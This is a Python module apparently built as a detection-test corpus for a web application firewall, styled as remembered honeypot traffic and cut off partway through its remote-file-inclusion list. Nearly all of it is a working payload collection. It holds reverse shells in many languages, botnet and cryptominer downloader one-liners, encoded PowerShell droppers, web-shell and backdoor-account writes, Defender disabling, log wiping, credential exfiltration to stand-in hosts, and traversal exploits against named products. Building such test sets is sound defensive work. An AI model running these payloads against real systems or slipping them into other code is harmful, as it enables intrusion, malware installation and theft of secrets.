"""Blind set "hundredsixtyfifth": OS command injection, local file inclusion / path traversal and remote file
inclusion the way opportunistic attackers and mass-exploitation botnets send them, with benign requests that
carry the same words innocently.

The angle: honeypot captures, recalled from memory. Nobody targets this host by name; the traffic is the spray that
every web server on the internet receives: Mirai-style droppers (cd /tmp; wget; chmod 777; run with the infection
tag), cryptominer loaders (curl | sh, cron persistence, hugepages, Defender exclusions), web-shell drops and their
first commands (id, uname -a, cat /etc/passwd), credential and config grabs (.env, wp-config.php, id_rsa, AWS
credentials, web.config), the exact one-liners worm campaigns (Shellshock, the Apache 2.4.49 traversal, pearcmd,
Joomla and phpBB RFI) throw at every host, blind probes with out-of-band callbacks (nslookup / curl to an
interaction host), and the noise around them: odd encodings (%2e, %252f, overlong UTF-8, %u IIS escapes), doubled
parameters, and payloads glued to a legitimate-looking value (an IP address, a page name). Each group of payloads
carries a comment naming its family and its target (shell, cmd.exe, PowerShell, bash CGI, PHP interpreter,
product).

Families (one sub-family per detection title):
  rce: unix-command-injection, unix-shell-expression-evasion, windows-cmd-injection, powershell,
    unix-command-names-with-paths, reverse-shells, shellshock, downloaders, file-write-via-shell,
    restricted-file-names-in-commands
  lfi: path-traversal, os-file-access, absolute-paths, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-targets, restricted-file-extensions
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocols

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Parameter names follow the family (cmd, ip, host, ping for
command injection; page, file, template, include, path, lang for inclusion). Shellshock goes in headers and
cookies (the CGI environment), its rs- copy to /cgi-bin/ paths. Whole `name=value` payloads (Joomla / phpBB
globals, doubled parameters, pearcmd) go as raw query strings, form bodies or parameter names. A payload that is
already percent-encoded the way the bot sends it (%2e%2e%2f, %252f, %c0%af, %u2215, %00) keeps its own
encoding (its % signs are not encoded again). Payloads with control characters (newline, NUL) never go into
headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, honeypot
and web-server logs as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression
test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Cycles, Put, Record, request
from .records import print_records

NAME = "hundredsixtyfifth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]

# where a whole `name=value` payload goes (turn by turn): a raw query string or form body, or a parameter name
_KV_PLACES = [("query", "rs-query"), ("form", "rs-raw-body"), ("query", "rs-form"), ("form", "rs-param-name")]


def kv(entries: list[str]) -> list[Entry]:
    """`name=value` payloads as fixed entries, turning through the places a whole query or body can go."""
    return [(e, *_KV_PLACES[i % len(_KV_PLACES)]) for i, e in enumerate(entries)]


# ================================================================================================================
# rce
# ================================================================================================================
# unix-command-injection: the separators glued to the value a router / NAS diagnostic page expects (an IP or host
# to ping); target: /bin/sh behind system()/popen() in the device's CGI or a PHP ping tool
UNIX_INJECTION: list[Entry] = [
    ";id",
    "127.0.0.1;cat /etc/passwd",
    "8.8.8.8|id",
    "1.1.1.1 && uname -a",
    "localhost||whoami",
    "`id`",
    "$(id)",
    "127.0.0.1\nid",
    ";uname -a;",
    "| cat /etc/issue",
    "localhost & ping -c 5 198.51.100.7 &",
    "$(sleep 10)",
    "1;sleep 7 #",
    "\";id;\"",
    "|| ifconfig",
    # blind probes with an out-of-band callback (interaction host gets the DNS query / HTTP hit)
    "1;nslookup $(whoami).c9k2m1x0q.oast.fun",
    "a|curl http://b7x0q1z4.oast.fun/$(hostname)",
    "`ping -c1 `whoami`.r3d9e2.oast.fun`",
]

# unix-shell-expression/evasion: the same first commands bent past a filter (quotes, ${IFS}, globbing, brace
# expansion, variables, printf/base64); target: bash / dash / busybox ash
SHELL_EVASION: list[Entry] = [
    ";cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    ";{cat,/etc/passwd}",
    ";c'a't /e't'c/pa'ss'wd",
    ";c\\at /et\\c/pas\\swd",
    ";/???/??t /???/p??s??",
    ";/bin/c?t /etc/pa*wd",
    ";$'\\x63\\x61\\x74' /etc/passwd",
    ";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    ";a=ca;b=t;$a$b /etc/passwd",
    ";w$@hoami",
    "|{wget,-qO-,http://198.51.100.4/s.sh}|sh",
    ";$(printf '\\151\\144')",
    ";cat</etc/passwd",
    ";X=$'uname\\x20-a'&&$X",
    "$(rev<<<'di')",
    ";echo d2hvYW1pO2hvc3RuYW1lO2lk|base64${IFS}-d|bash",
]

# windows-cmd-injection: the same spray aimed at IIS / Windows appliances; target: cmd.exe behind a CGI or
# Process.Start, LOLBin downloaders (certutil, bitsadmin, mshta, regsvr32)
WINDOWS_CMD: list[Entry] = [
    "& dir c:\\",
    "| type C:\\Windows\\win.ini",
    "&& whoami /all",
    "| net user",
    "127.0.0.1 & ipconfig /all",
    "|| systeminfo",
    "& net localgroup administrators",
    "127.0.0.1 & ping -n 3 198.51.100.9",
    "& certutil -urlcache -split -f http://198.51.100.9/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe",
    "& bitsadmin /transfer j /download /priority high http://198.51.100.9/x.exe C:\\Users\\Public\\x.exe",
    "& mshta http://198.51.100.9/p.hta",
    "& regsvr32 /s /n /u /i:http://198.51.100.9/f.sct scrobj.dll",
    "& nslookup %USERNAME%.q1w2e3r4.oast.fun",
    "|c^m^d /c who^ami",
    "& type %SYSTEMROOT%\\system32\\drivers\\etc\\hosts",
    "& cmd /c \"net user backup P@ssw0rd123 /add & net localgroup administrators backup /add\"",
    "| schtasks /create /sc minute /mo 5 /tn Update /tr \"C:\\ProgramData\\svc.exe\" /ru SYSTEM",
]

# powershell: droppers and recon through powershell.exe / pwsh (-enc blobs are the real UTF-16LE base64 of the
# command); target: Windows PowerShell 5.1, PowerShell 7 on Linux
POWERSHELL: list[Entry] = [
    "; powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.31/a.ps1')\"",
    "| powershell -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBs"
    "AG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADEAOQA4AC4ANQAxAC4AMQAwADAALgAzADEALwBhAC4AcABzADEAJwApAA==",
    "& powershell.exe -ExecutionPolicy Bypass -NoProfile -EncodedCommand aQB3AHIAIABoAHQAdABwADoALwAvADEAOQA4AC4ANQAx"
    "AC4AMQAwADAALgAzADEALwBzAC4AZQB4AGUAIAAtAE8AdQB0AEYAaQBsAGUAIAAkAGUAbgB2ADoAVABFAE0AUABcAHMALgBlAHgAZQA7ACAAJgAg"
    "ACQAZQBuAHYAOgBUAEUATQBQAFwAcwAuAGUAeABlAA==",
    "& powershell -ep bypass -File \\\\198.51.100.31\\s\\r.ps1",
    "| powershell -c \"iwr http://198.51.100.31/m -UseBasicParsing|iex\"",
    "; pwsh -c 'Get-Content /etc/passwd'",
    "& powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('198.51.100.31',4444);$s=$c.GetStream();"
    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding)."
    "GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$o=([Text.Encoding]::ASCII).GetBytes($r+'PS> ');"
    "$s.Write($o,0,$o.Length)};$c.Close()\"",
    "& powershell -c \"[Net.Dns]::GetHostAddresses($env:COMPUTERNAME+'.x1y2z3.oast.fun')\"",
    "| powershell -w 1 -c \"Add-MpPreference -ExclusionPath C:\\\"",
    "& powershell Set-MpPreference -DisableRealtimeMonitoring $true",
    "; powershell \"(New-Object System.Net.WebClient).DownloadFile('http://198.51.100.31/xmrig.exe',"
    "'C:\\Users\\Public\\svchost.exe');Start-Process 'C:\\Users\\Public\\svchost.exe'\"",
    "& powershell -c \"Start-BitsTransfer -Source http://198.51.100.31/p.exe -Destination $env:APPDATA\\p.exe\"",
    "| powershell -c \"IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1pO2hvc3RuYW1lO2lk')))\"",
    "& powershell -c \"Remove-Item -Recurse -Force C:\\inetpub\\logs\\LogFiles\\*\"",
    "& powershell -c \"Invoke-WebRequest -Uri ('http://198.51.100.31/c?h='+$env:COMPUTERNAME) -UseBasicParsing\"",
    "| powershell -noni -nop -w hidden -c \"&([scriptblock]::Create((New-Object Net.WebClient)."
    "DownloadString('http://198.51.100.31/l')))\"",
]

# unix-command-names-with-paths: the full-path binaries bots call because PATH is empty in the CGI (busybox Mirai
# probe, miners killing rivals); target: embedded Linux busybox, /bin/sh on web hosts
COMMAND_PATHS: list[Entry] = [
    ";/bin/busybox ECCHI",
    ";/bin/busybox wget http://198.51.100.44/bins/x86 -O /tmp/x86; /bin/busybox chmod 777 /tmp/x86",
    ";/usr/bin/id",
    "|/bin/cat /etc/passwd",
    ";/bin/sh -c id",
    "$(/usr/bin/wget -q -O- http://198.51.100.44/i.sh)",
    "|/sbin/ifconfig -a",
    ";/usr/bin/python3 -c 'import os;os.system(\"id\")'",
    ";/usr/bin/perl -e 'print `id`'",
    ";/usr/bin/nohup /tmp/.x/kdevtmpfsi >/dev/null 2>&1 &",
    ";/usr/sbin/iptables -F",
    ";/usr/bin/pkill -f kinsing; /usr/bin/pkill -f xmrig",
    ";/bin/ls -la /var/www/html",
    ";/usr/bin/crontab -l",
    ";/usr/bin/find / -perm -4000 -type f 2>/dev/null",
    ";/usr/bin/chattr -i /etc/ld.so.preload",
    "`/usr/bin/curl -s http://198.51.100.44/ip`",
]

# reverse-shells: the interactive callback a bot or an operator opens once the injection works; target: bash,
# sh, nc/ncat/busybox nc, python, perl, php, ruby, socat, awk, node on the web host
REVERSE_SHELLS: list[Entry] = [
    ";bash -i >& /dev/tcp/198.51.100.40/4444 0>&1",
    "|bash -c 'bash -i >& /dev/tcp/198.51.100.40/443 0>&1'",
    ";0<&196;exec 196<>/dev/tcp/198.51.100.40/4444; sh <&196 >&196 2>&196",
    ";nc -e /bin/sh 198.51.100.40 4444",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.40 4444 >/tmp/f",
    ";busybox nc 198.51.100.40 4444 -e sh",
    "|ncat 198.51.100.40 9001 -e /bin/bash",
    ";python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    "s.connect((\"198.51.100.40\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
    "p=subprocess.call([\"/bin/sh\",\"-i\"])'",
    ";python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"198.51.100.40\",9001));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'",
    ";perl -e 'use Socket;$i=\"198.51.100.40\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");"
    "exec(\"/bin/sh -i\");};'",
    ";socat tcp-connect:198.51.100.40:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane",
    ";php -r '$sock=fsockopen(\"198.51.100.40\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    ";ruby -rsocket -e 'f=TCPSocket.open(\"198.51.100.40\",4444).to_i;"
    "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    ";sh -i >& /dev/udp/198.51.100.40/53 0>&1",
    ";awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.40/4444\";while(1){printf \"> \" |& s;s |& getline c;"
    "if(c){while((c |& getline) > 0)print $0 |& s;close(c)}}}'",
    ";node -e \"require('child_process').exec('nc -e /bin/sh 198.51.100.40 4444')\"",
    "$(echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjQwLzQ0NDQgMD4mMQ==|base64 -d|bash)",
]

# shellshock (CVE-2014-6271 and the follow-ups 6278/7169): function definitions in any header a CGI exports;
# target: bash behind Apache mod_cgi, router and NAS cgi-bin scripts
SHELLSHOCK: list[Entry] = [
    "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'",
    "() { :;}; /bin/bash -c \"wget http://198.51.100.50/bot -O /tmp/bot;chmod +x /tmp/bot;/tmp/bot\"",
    "() { ignored; }; echo Content-Type: text/plain; echo; echo; /usr/bin/id",
    "() { :; }; /bin/ping -c 1 198.51.100.50",
    "() { :; }; echo; echo vulnerable",
    "() { :;}; /bin/bash -c \"curl -s http://198.51.100.50/x.sh | bash\"",
    "() { _; } >_[$($())] { echo; /bin/id; }",
    "() { :; }; /bin/sh -c 'nc -e /bin/sh 198.51.100.50 4444'",
    "() { :;}; /usr/bin/nslookup shellshock.r4t5y6.oast.fun",
    "() { :; }; echo; echo $(/bin/uname -a)",
    "() { (a)=>\\' bash -c \"echo date\"",
    "() { :; }; /bin/bash -i >& /dev/tcp/198.51.100.50/8080 0>&1",
    "() { :;};/usr/bin/perl -e 'print \"Content-Type: text/plain\\r\\n\\r\\nXSUCCESS!\";"
    "system(\"wget http://198.51.100.50/p.pl -O /tmp/p.pl;perl /tmp/p.pl\");'",
    "() { :; }; echo ; echo ; /bin/busybox ECCHI",
    "() { test;};/usr/bin/wget -q -O /dev/null http://198.51.100.50/ss?h=$(hostname)",
    "() { :; }; /bin/bash -c 'cd /tmp;wget http://198.51.100.50/mips;chmod 777 mips;./mips shellshock'",
]

# downloaders: the droppers themselves (Mirai/Gafgyt/Mozi loaders with their infection tags, Kinsing/XMRig miner
# loaders); target: /bin/sh, busybox wget/tftp/ftpget on routers and DVRs, curl/wget on Linux web hosts
DOWNLOADERS: list[Entry] = [
    ";cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.61/bins.sh; chmod 777 bins.sh; "
    "sh bins.sh; tftp 198.51.100.61 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf *",
    ";curl -fsSL http://198.51.100.61/ldr.sh|sh",
    "|wget -qO- http://198.51.100.61/xmr.sh|bash",
    ";(curl -s http://198.51.100.61/cr.sh||wget -q -O- http://198.51.100.61/cr.sh)|bash",
    "$(wget -O /tmp/.x http://198.51.100.61/mozi.m; chmod +x /tmp/.x; /tmp/.x)",
    ";wget http://198.51.100.61/Mozi.m -O /tmp/Mozi.m;chmod 777 /tmp/Mozi.m;/tmp/Mozi.m dlink.mips",
    ";busybox wget http://198.51.100.61/x86_64 -O- > /tmp/k; chmod +x /tmp/k; /tmp/k selfrep.jaws",
    "; tftp -g -r mips 198.51.100.61; chmod +x mips; ./mips",
    ";ftpget -v -u anonymous -p anonymous -P 21 198.51.100.61 mpsl mpsl; chmod 777 mpsl; ./mpsl",
    "|curl -o /tmp/kinsing http://198.51.100.61/kinsing && chmod +x /tmp/kinsing && /tmp/kinsing",
    ";wget --no-check-certificate https://198.51.100.61/xmrig.tar.gz -O /tmp/x.tgz;tar xzf /tmp/x.tgz -C /tmp;"
    "/tmp/xmrig -o pool.supportxmr.com:443 --tls -B",
    "; python -c \"import urllib2;exec(urllib2.urlopen('http://198.51.100.61/p.py').read())\"",
    ";echo d2dldCBodHRwOi8vMTk4LjUxLjEwMC42MS94LnNoIC1PLSB8IHNo|base64 -d|sh",
    "$(echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC42MS9sZHIuc2h8YmFzaA==|base64 -d|bash)",
    ";wget http://198.51.100.61/arm7 -O /var/tmp/arm7; chmod 777 /var/tmp/arm7; /var/tmp/arm7 hnap",
    "|cd /tmp; rm -rf *; wget http://198.51.100.61/8UsA.sh; chmod 777 8UsA.sh; sh 8UsA.sh",
    "&&wget -q http://198.51.100.61/gh -O /dev/shm/.gh && chmod +x /dev/shm/.gh && /dev/shm/.gh",
]

# file-write-via-shell: echo / printf / tee / heredoc writing a web shell, an SSH key, a cron line, a backdoor
# account or a miner tweak; target: the shell as the web user (or root on embedded devices), IIS via cmd.exe
FILE_WRITE: list[Entry] = [
    ";echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/s.php",
    "|echo PD9waHAgZXZhbCgkX1BPU1RbMV0pOz8+|base64 -d > /var/www/html/.cache.php",
    ";echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC3x9k root@vps' >> /root/.ssh/authorized_keys",
    ";(crontab -l;echo '*/5 * * * * curl -fsSL http://198.51.100.72/c.sh|sh')|crontab -",
    ";echo '*/1 * * * * root wget -q -O- http://198.51.100.72/m|sh' > /etc/cron.d/apache",
    "|tee /var/www/html/x.jsp <<< '<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>'",
    ";echo 'toor:$1$xyz$9Qm2kz8YpQ1e0a3b4c5d6/:0:0::/root:/bin/bash' >> /etc/passwd",
    "& echo ^<%eval request(\"x\")%^> > C:\\inetpub\\wwwroot\\x.asp",
    "& echo ^<%@ Page Language=\"Jscript\"%^>^<%eval(Request.Item[\"z\"],\"unsafe\");%^> > "
    "C:\\inetpub\\wwwroot\\aspnet_client\\z.aspx",
    ";cat > /tmp/.s <<EOF\nbash -i >& /dev/tcp/198.51.100.72/9001 0>&1\nEOF",
    ";echo 128 > /proc/sys/vm/nr_hugepages",
    ";echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload",
    "|echo '<?=`$_GET[0]`?>'>/var/www/html/wp-content/uploads/x.php",
    ";/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01\\x00' > .d; /bin/busybox chmod 777 .d",
    ";echo PD9waHAgc3lzdGVtKCRfR0VUWyJjbWQiXSk7Pz4= | base64 -d | tee /var/www/html/images/up.php",
    "$(printf '<?php @eval($_POST[\"pass\"]);?>' > /var/www/html/config.bak.php)",
]

# restricted-file-names-in-commands: the credential and config grabs a shell session starts with; target: the
# shell reading /etc/shadow, keys, cloud credentials, CMS config, and exfiltrating them
RESTRICTED_FILES_CMD: list[Entry] = [
    ";cat /etc/shadow",
    "|more /etc/passwd",
    ";cat /root/.bash_history",
    ";cat ~/.aws/credentials",
    ";cat /root/.ssh/id_rsa",
    ";cat /proc/self/environ",
    ";grep -r DB_PASSWORD /var/www/html/.env",
    ";cat /var/www/html/wp-config.php",
    ";base64 /etc/shadow | curl -d @- http://198.51.100.80/x",
    ";cat /home/*/.ssh/authorized_keys",
    ";tar czf - /etc/ssh | nc 198.51.100.80 9000",
    ";cat /etc/sudoers",
    ";od -c /etc/master.passwd",
    "& type C:\\boot.ini",
    "& type C:\\inetpub\\wwwroot\\web.config",
    ";cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    ";curl -F f=@/etc/passwd http://198.51.100.80/u",
]

# ================================================================================================================
# lfi
# ================================================================================================================
# path-traversal: ../ and ..\ in every encoding bots use (plain, %2f, %252f, %c0%af overlong UTF-8, %u IIS
# escapes, ....// filter strip, ..;/ Tomcat) and the product one-liners (Apache 2.4.49/50, Grafana, Fortinet,
# Citrix, Pulse Secure); target: PHP include, file-download handlers, Apache httpd, Tomcat, IIS, the appliances
PATH_TRAVERSAL: list[Entry] = [
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252fetc%252fpasswd",
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "..;/..;/..;/WEB-INF/web.xml",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "..%u2216..%u2216windows%u2216win.ini",
    "..\\/..\\/..\\/etc/passwd",
    "....\\\\....\\\\windows\\\\win.ini",
    "..%255c..%255c..%255cboot.ini",
    "../../../../../../../../../../../../etc/hosts",
    "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "path", "rs-path"),
    ("/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd", "path", "rs-path"),
    ("/public/plugins/alertlist/../../../../../../../../etc/passwd", "path", "rs-path"),
    ("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "path", "rs-path"),
    ("/vpn/../vpns/cfg/smb.conf", "path", "rs-path"),
    ("/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/", "path", "rs-path"),
    "..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd%3F",
]

# os-file-access: the files every LFI scanner asks for once a traversal works (passwd, /proc/self, win.ini,
# boot.ini, web.config, .htaccess, .git, .env, SSH keys, cloud and kube tokens); target: PHP include / readfile,
# Java and Node download endpoints
OS_FILES: list[Entry] = [
    "../../../../proc/self/environ",
    "../../../proc/self/cmdline",
    "../../../../boot.ini",
    "../../web.config",
    "../.htaccess",
    "../../.git/config",
    "../../../.git/HEAD",
    "../.env",
    "../../../../root/.ssh/id_rsa",
    "../../../../home/ubuntu/.ssh/id_rsa",
    "../../../../etc/shadow",
    "....//....//....//proc/self/status",
    "../../WEB-INF/web.xml",
    "../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
    "../../../../root/.aws/credentials",
    "../../../../etc/mysql/my.cnf",
    "../../../wp-config.php",
    "../../../../proc/version",
    "..\\..\\..\\..\\Windows\\System32\\config\\SAM",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "../../../../etc/ssh/sshd_config",
    "../../../../proc/self/mounts",
    "../../../.git/logs/HEAD",
    "../../../../root/.kube/config",
]

# absolute-paths: the same targets without any traversal, for handlers that take a full path (file=, path=,
# template=) or file:// URLs; target: readfile()/include, Java File/URL, Python open(), Windows file APIs
ABSOLUTE_PATHS: list[Entry] = [
    "/etc/passwd",
    "/etc/shadow",
    "file:///etc/passwd",
    "C:\\Windows\\win.ini",
    "C:/Windows/System32/drivers/etc/hosts",
    "c:\\boot.ini",
    "/proc/self/environ",
    "/var/www/html/config.php",
    "/etc/nginx/nginx.conf",
    "/usr/local/etc/php/php.ini",
    "/etc/apache2/apache2.conf",
    "/root/.ssh/authorized_keys",
    "//etc//passwd",
    "/etc/./passwd",
    "C:\\inetpub\\wwwroot\\web.config",
    "/opt/tomcat/conf/tomcat-users.xml",
    "/etc/hosts",
    "/proc/self/cwd/config.py",
    "/proc/self/cwd/.env",
    "file:///c:/windows/win.ini",
    "/../../../../..//////////dev/cmdb/sslvpn_websession",
    "/etc/issue",
    "/proc/1/cmdline",
    "\\\\?\\C:\\Windows\\win.ini",
]

# null-byte/truncation: cutting off the suffix an old PHP (< 5.3.4) or a C-string handler appends (.php, .jpg,
# .html): %00, a literal NUL, %2500, path length truncation, Windows trailing dots, IIS ;.jpg
NULL_BYTE: list[Entry] = [
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%00.jpg",
    "../../../etc/passwd\x00.php",
    "/etc/passwd%00.html",
    "../../../../etc/passwd" + "/." * 2048,
    "../../../../etc/passwd" + "/" * 4096 + ".php",
    "....//....//etc/passwd%00",
    "%00../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd%00index.html",
    "C:\\boot.ini%00.txt",
    "..\\..\\..\\windows\\win.ini%00.png",
    "/etc/passwd%2500.jpg",
    "../../../../etc/shadow%00%00",
    "../../../../etc/passwd;.jpg",
    "..\\..\\boot.ini..........",
    "..%c0%af..%c0%afetc/passwd%00",
    "../../../../etc/passwd%00.gif",
    "/proc/self/environ\x00",
    "../../../../../../etc/hosts%00.css",
    "../../config.php%00.txt",
    "../../../etc/passwd\x00",
    "/etc/passwd%00%2ephp",
    "..%252f..%252fetc%252fpasswd%2500",
]

# php-wrapper-lfi: PHP stream wrappers through include()/file_get_contents() (filter chains to read source,
# data:// and php://input to run code, expect://, zip:// and phar:// on an uploaded archive), plus the pearcmd.php
# config-create trick every botnet sprays at Docker PHP images; target: the PHP interpreter
PHP_WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=convert.base64-encode/resource=../wp-config.php",
    "php://filter/resource=/etc/passwd",
    "php://filter/read=string.rot13/resource=config.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "pHp://FilTer/convert.base64-encode/resource=index",
    "php://input",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjbWQiXSk7Pz4=",
    "data:text/plain,<?php phpinfo();?>",
    "expect://id",
    "zip://uploads/avatar.zip%23shell.php",
    "phar://./uploads/avatar.jpg/shell.php",
    "compress.zlib:///etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/index.php",
    "php://filter/string.toupper|string.rot13/resource=flag.php",
    "php://filter/convert.quoted-printable-encode/resource=/etc/shadow",
    "php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex",
    "php://filter/read=convert.base64-encode/resource=/proc/self/environ",
    "glob:///var/www/html/*.php",
    "php://filter/convert.base64-decode/resource=data://plain/text,PD9waHAgc3lzdGVtKCdpZCcpOz8+",
    "php://fd/0",
    ("+config-create+/&file=/usr/local/lib/php/pearcmd.php&/<?=system($_GET[0]);?>+/tmp/hello.php",
     "query", "rs-query"),
    ("file=/usr/local/lib/php/pearcmd.php&+install+-R+/tmp+http://198.51.100.95/x.php", "query", "rs-query"),
    ("page=php://input&cmd=id", "form", "rs-raw-body"),
]

# log-poisoning-targets: the files an attacker first writes PHP into (access/error logs via User-Agent, auth.log
# via the SSH user name, mail spool, session files, /proc/self/fd) and then includes; target: PHP include on
# Apache, nginx, XAMPP, cPanel, IIS hosts
LOG_TARGETS: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "/var/log/apache2/error.log",
    "../../../../var/log/nginx/access.log",
    "/var/log/httpd/access_log",
    "../../../../proc/self/fd/2",
    "/proc/self/fd/7",
    "../../../../var/log/auth.log",
    "/var/log/vsftpd.log",
    "/var/log/mail.log",
    "/var/lib/php/sessions/sess_8f3b2a1c9d7e6f5a4b3c2d1e0f",
    "/tmp/sess_k1d8s9a0p3n2m5b4v7c6x",
    "C:\\xampp\\apache\\logs\\access.log",
    "..\\..\\..\\xampp\\apache\\logs\\error.log",
    "/usr/local/apache/logs/access_log",
    "/var/log/apache/access.log",
    "/opt/lampp/logs/access_log",
    "/var/log/nginx/error.log",
    "/var/log/syslog",
    "/var/mail/www-data",
    "/var/log/lighttpd/access.log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240601.log",
    "../../../../../var/log/sshd.log",
    ("file=../../../../var/log/apache2/access.log&c=id", "query", "rs-query"),
    ("page=/var/log/nginx/access.log&cmd=uname%20-a", "form", "rs-raw-body"),
]

# restricted-file-extensions: backups and configs left in the web root (.bak, .old, .orig, ~, .save, .sql,
# .ini, .config, .inc, .mdb, .sqlite) that scanners request through a file parameter; target: the web server's
# static handler and download scripts
RESTRICTED_EXT: list[Entry] = [
    "config.php.bak",
    "../wp-config.php.bak",
    "web.config.old",
    "../database.sql",
    "backup.sql",
    "../settings.ini",
    "../../.env.bak",
    "index.php~",
    "wp-config.php.save",
    "config.inc.php.orig",
    "../dump.sql.gz",
    "../app.config",
    "../../conf/server.ini",
    "../includes/db.inc",
    "php.ini",
    "../data/users.sqlite",
    "../admin/.htpasswd",
    "../../db/site.mdb",
    "web.config.bak",
    "LocalSettings.php.old",
    "../config/database.yml.bak",
    "../../www.tar.gz",
    "../.wp-config.php.swp",
]

# ================================================================================================================
# rfi
# ================================================================================================================
# url-with-ip-address: the include fed a shell or an "id" probe script on a bare IP (decimal and hex forms too);
# target: PHP include()/require() with allow_url_include, old CMS plugins
URL_IP: list[Entry] = [
    "http://198.51.100.90/shell.txt",
    "http://203.0.113.14/c99.txt",
    "http://192.0.2.66:8080/r57.txt",
    "https://198.51.100.90/x.php",
    "http://198.51.100.90/id.txt",
    "http://[2001:db8::1]/s.txt",
    "http://3325256804/shell.txt",
    "http://0xC6336464/s.txt",
    "http://198.51.100.90/bot.txt",
    "http://203.0.113.14:81/wso.php",
    "http://192.0.2.66/dl/mini.txt",
    "http://198.51.100.90/images/cmd.gif",
    "https://203.0.113.14:8443/inc/b374k.php",
    "http://198.51.100.90/~user/pbot.txt",
    "http://192.0.2.66/.x/spread.txt",
    "http://203.0.113.14/fx29.txt",
    "http://198.51.100.90/phpinfo.txt",
    "http://192.0.2.66:8000/rev.php",
    "http://198.51.100.90/test.txt?cmd=id",
    "http://0306.0063.0144.0144/s.txt",
    "http://198.51.100.90:443/kit/up.txt",
    "http://[::ffff:c633:645a]/shell.txt",
    "http://203.0.113.14/lib/config.inc.txt",
    "http://198.51.100.90/sh.php.jpg",
    "http://192.0.2.66/magic.txt",
    "https://198.51.100.90/a/w.txt",
    "http://203.0.113.14/r00t.txt",
